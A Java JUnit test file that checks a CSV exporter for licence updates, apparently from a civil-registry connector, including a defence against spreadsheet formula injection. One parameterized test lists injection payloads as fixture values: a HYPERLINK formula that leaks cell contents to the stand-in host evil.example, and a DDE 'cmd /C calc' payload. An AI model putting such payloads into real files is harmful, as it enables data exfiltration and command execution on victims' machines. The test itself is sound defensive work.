package id.jembatan.connector.licensing;

import id.jembatan.schema.fixtures.CitizenFixtures;
import id.jembatan.schema.model.BirthRegistered;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.StringReader;
import java.io.StringWriter;
import java.time.LocalDate;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class LicensingCsvTest {

    private final CitizenFixtures fixtures = new CitizenFixtures();
    private final LicensingTranslator translator = new LicensingTranslator();

    @Test
    void translatesWhatConcernsLicences() {
        BirthRegistered birth = fixtures.birth();
        String nik = birth.citizen().nik();

        assertThat(translator.translate(fixtures.death(nik, CitizenFixtures.today())).orElseThrow().action())
                .isEqualTo(LicenceUpdate.Action.REVOKE);
        assertThat(translator.translate(fixtures.addressChange(nik, fixtures.address())).orElseThrow().action())
                .isEqualTo(LicenceUpdate.Action.UPDATE_ADDRESS);
        assertThat(translator.translate(fixtures.nameChange(nik, "Budi Santoso")).orElseThrow().fullName())
                .isEqualTo("Budi Santoso");
        assertThat(translator.translate(birth).orElseThrow().action()).isEqualTo(LicenceUpdate.Action.REGISTER);
        assertThat(translator.translate(fixtures.marriage(nik, fixtures.citizen().nik(), CitizenFixtures.today())))
                .isEmpty();
    }

    /**
     * Names and streets that a spreadsheet would run as formulas (OWASP's CSV injection triggers = + - @, tab, CR).
     * Result: each cell is written with a single quote before it, so no cell of the file starts with a trigger;
     * reading the file gives back exactly the values, also a name that really starts with a quote.
     */
    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")", "+62 812 Budi", "-1+1 Siti",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\tBudi Santoso", "\rBudi Santoso", "'=1+1 Dewi", "''@Dewi"})
    void formulaCellsAreNeutralisedAndReadBackExactly(String hostile) throws Exception {
        BirthRegistered birth = fixtures.birth();
        var a = birth.citizen().address();
        var street = new id.jembatan.schema.model.Address(hostile, a.rt(), a.rw(), a.villageCode(), hostile,
                a.districtCode(), a.district(), a.regencyCode(), a.regency(), a.provinceCode(), a.province(),
                a.postalCode());
        List<LicenceUpdate> rows = List.of(
                translator.translate(fixtures.nameChange(birth.citizen().nik(), hostile)).orElseThrow(),
                translator.translate(fixtures.addressChange(birth.citizen().nik(), street)).orElseThrow());
        StringWriter out = new StringWriter();

        LicensingCsv.write(rows, out);

        try (var parser = org.apache.commons.csv.CSVParser.builder().setReader(new StringReader(out.toString()))
                .setFormat(org.apache.commons.csv.CSVFormat.RFC4180).get()) {
            for (var record : parser) {
                for (String cell : record) {
                    assertThat(cell).as("cell").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                            .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
                }
            }
        }
        assertThat(out.toString()).contains("'" + hostile.substring(0, 3));
        assertThat(LicensingCsv.read(new StringReader(out.toString()))).isEqualTo(rows);
    }

    /** A name that starts with a quote but no trigger ('Aisyah) and an ordinary name are written as they are. */
    @Test
    void ordinaryValuesAreWrittenAsTheyAre() throws Exception {
        BirthRegistered birth = fixtures.birth();
        List<LicenceUpdate> rows = List.of(
                translator.translate(fixtures.nameChange(birth.citizen().nik(), "'Aisyah Putri")).orElseThrow(),
                translator.translate(fixtures.nameChange(birth.citizen().nik(), "Budi - Santoso")).orElseThrow());
        StringWriter out = new StringWriter();

        LicensingCsv.write(rows, out);

        assertThat(out.toString()).contains(",'Aisyah Putri,").contains(",Budi - Santoso,");
        assertThat(LicensingCsv.read(new StringReader(out.toString()))).isEqualTo(rows);
    }

    @Test
    void rowsSurviveTheRoundTripIncludingQuotesAndCommas() throws Exception {
        BirthRegistered birth = fixtures.birth();
        var address = birth.citizen().address();
        var quoted = new id.jembatan.schema.model.Address("Jl. \"Kenanga\", Gg. 3\nBlok A", address.rt(),
                address.rw(), address.villageCode(), address.village(), address.districtCode(), address.district(),
                address.regencyCode(), address.regency(), address.provinceCode(), address.province(),
                address.postalCode());
        List<LicenceUpdate> rows = List.of(
                translator.translate(birth).orElseThrow(),
                translator.translate(fixtures.addressChange(birth.citizen().nik(), quoted)).orElseThrow(),
                translator.translate(fixtures.death(birth.citizen().nik(), CitizenFixtures.today())).orElseThrow());
        StringWriter out = new StringWriter();

        LicensingCsv.write(rows, out);

        assertThat(out.toString()).startsWith(String.join(",", LicensingCsv.COLUMNS) + "\r\n");
        assertThat(LicensingCsv.read(new StringReader(out.toString()))).isEqualTo(rows);
    }

    @Test
    void aFileWithAnotherHeaderIsRefused() {
        assertThatThrownBy(() -> LicensingCsv.read(new StringReader("nik,name\r\n3171014508990001,Siti\r\n")))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("header");
    }
}
